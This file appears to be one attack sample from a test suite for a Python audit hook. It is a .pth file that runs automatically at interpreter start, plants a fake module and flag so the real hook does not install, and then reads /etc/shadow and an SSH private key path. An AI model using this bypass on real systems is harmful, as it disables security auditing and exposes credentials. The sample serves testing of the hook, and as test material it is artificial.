# attack: pth_fakes_installed_hook
# class: 2
# category: hook_bypass
# kind: secret_read
# run: site
# path: 000-ouro-selftest.pth
# describe: a dependency's .pth file marks the hook as already installed (a fake module and flag), so the real install() is a no-op
import json
import sys
import types

fake = types.ModuleType("_ouro_audit_hook")
fake.install = lambda *a, **k: False
fake.rebind_channel = lambda fd: True
sys.modules["_ouro_audit_hook"] = fake
sys._ouro_audit_installed = True
try:
    T = json.load(open("/workspace/target.json"))
except OSError:
    T = {}
for path in ("/etc/shadow", T.get("canary_path", "/root/.ssh/id_rsa")):
    try:
        open(path).read()
    except OSError:
        pass
